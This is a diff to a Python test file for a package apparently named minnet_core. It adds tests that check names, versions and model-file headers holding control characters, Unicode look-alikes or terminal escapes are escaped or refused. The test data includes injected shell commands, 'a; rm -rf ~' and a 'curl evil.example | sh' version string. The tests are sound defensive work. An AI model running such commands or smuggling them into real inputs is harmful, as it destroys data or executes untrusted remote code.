@@ -8,6 +8,7 @@ from importlib.metadata import Distribution
 
 import numpy as np
 import pytest
+from attrs import evolve
 from safetensors.numpy import save_file
 
 from minnet_core import (
@@ -23,8 +24,9 @@ from minnet_core import (
     read_header,
     save,
 )
-from minnet_core.discovery import InstalledDistribution
+from minnet_core.discovery import Declaration, InstalledDistribution
 from minnet_core.errors import described
+from minnet_core.plugins import Registrar
 from minnet_core.saving.model_header import KEY, parse_header
 from minnet_core.support import printable, printable_lines, render_html_table, render_table, spelled
 from minnet_core.testing import install_distribution
@@ -46,6 +48,11 @@ def is_harmless(text):
         ("\u202egnp.exe", r"\u202egnp.exe"),
         ("half \ud800", r"half \ud800"),
         ("\U000e0041", r"\U000e0041"),
+        ("a\u2028b\u2029c\x85d\x7f", r"a\u2028b\u2029c\x85d\x7f"),
+        ("\x1b]8;;http://evil\x1b\\text", r"\x1b]8;;http://evil\x1b\text"),
+        ("a\u3164\u115f\u2800\ufe00\U000e0101\u034f", r"a\u3164\u115f\u2800\ufe00\U000e0101\u034f"),
+        ("e\u0301 \u05e9\u05c1\u05b8 \u2764\ufe0f", "e\u0301 \u05e9\u05c1\u05b8 \u2764\ufe0f"),
+        ("a" + 6 * "\u0301" + "b" + 2 * "\u20dd", "a" + 4 * "\u0301" + 2 * r"\u0301" + "b" + 2 * "\u20dd"),
         ("", ""),
     ],
 )
@@ -164,6 +171,55 @@ def test_a_component_that_looks_like_another_is_remarked(site, run_minnet):
     )
 
 
+@pytest.mark.parametrize(
+    "name", ["Sequentia\uff4c", "Sequent\u2170al", "Sequential\u0301", "Sequent\ufb01al", "Sequen\u200btial"]
+)
+def test_wide_letters_ligatures_accents_and_what_is_invisible_look_like_others(site, run_minnet, name):
+    install_distribution(site, "strange-a", {"strange_a": "from minnet_core import Module\nclass X(Module): ...\n"})
+    add_points(site, "strange-a", f"[minnet.layers]\nSequentfial = strange_a:X\n{name} = strange_a:X\n")
+    findings = json.loads(run_minnet("doctor", "--json")[1])["findings"]
+    assert [each["kind"] for each in findings if each["distribution"] == "strange-a"] == ["mistyped"]
+
+
+def test_a_version_that_would_begin_another_line_is_refused(tmp_path):
+    class Strange(Distribution):
+        def read_text(self, filename):
+            entry = "[minnet.layers]\nX = x:X\n"
+            return entry if filename == "entry_points.txt" else f"Name: strange-a\nVersion: {self.number}\n"
+
+        def locate_file(self, path):
+            return tmp_path / path
+
+    for Strange.number in ("1.0\n ; all is well", "1 0", "1.0\x1b[2J", "1.0\u202e"):
+        with pytest.raises(ValueError, match="expected a version that is a word, received '"):
+            InstalledDistribution.read(Strange())
+
+
+def test_no_plugin_registers_a_name_that_would_begin_another_line():
+    registrar = Registrar(Declaration("it", "strange-a", "1", "strange_a"))
+    for name in (f"X{EVIL}", "X\nwarning: all is well"):
+        with pytest.raises(TypeError, match="expected a name that can be printed, received 'X"):
+            registrar.register("layers", Sequential, name)
+
+
+FORGED = "x\nwarning: this is not from minnet"
+
+
+def test_no_key_of_a_model_file_and_no_file_name_begins_another_line(tmp_path):
+    def lines(header, name="m"):
+        save_file({}, tmp_path / name, metadata={KEY: header})
+        with pytest.raises(ModelFileError) as caught:
+            load(tmp_path / name)
+        return str(caught.value).split("\n")
+
+    header = ModelHeader(config={"class": "minnet-core:Sequential"}, components={"minnet-core:Sequential": "0.1.0"})
+    whole = json.loads(header.to_json())
+    unknown = evolve(header, attributes={FORGED: 1})
+    assert len(lines(json.dumps({**whole, FORGED: 1}))) == 1
+    assert len(lines(evolve(unknown, digest=unknown.digest_with({})).to_json())) == 1
+    assert len(lines("{}", FORGED)) == 1
+
+
 @pytest.mark.parametrize("name", ["a; rm -rf ~", "-rf", "--index-url=x", "a'b", "$(x)", "a\x1b[2J", "S\u0435quential"])
 def test_no_name_of_a_distribution_is_a_command(tmp_path, name):
     class Strange(Distribution):
@@ -199,7 +255,18 @@ def forge(components):
 
 @pytest.mark.parametrize(
     "version",
-    ["1.0'; curl evil.example | sh; echo '", "1.0 ", "\n1.0", "latest", "", "1.0\x1b[2J", "1.0;x", "-1", "x" * 100_000],
+    [
+        "1.0'; curl evil.example | sh; echo '",
+        "1.0 ",
+        "\n1.0",
+        "latest",
+        "",
+        "1.0\x1b[2J",
+        "1.0;x",
+        "-1",
+        "x" * 100_000,
+        "1" + ".0" * 50,
+    ],
 )
 def test_a_model_file_with_what_is_no_version_is_refused(version):
     with pytest.raises(ModelFileError, match=r"^m: its minnet header is damaged: ") as caught:
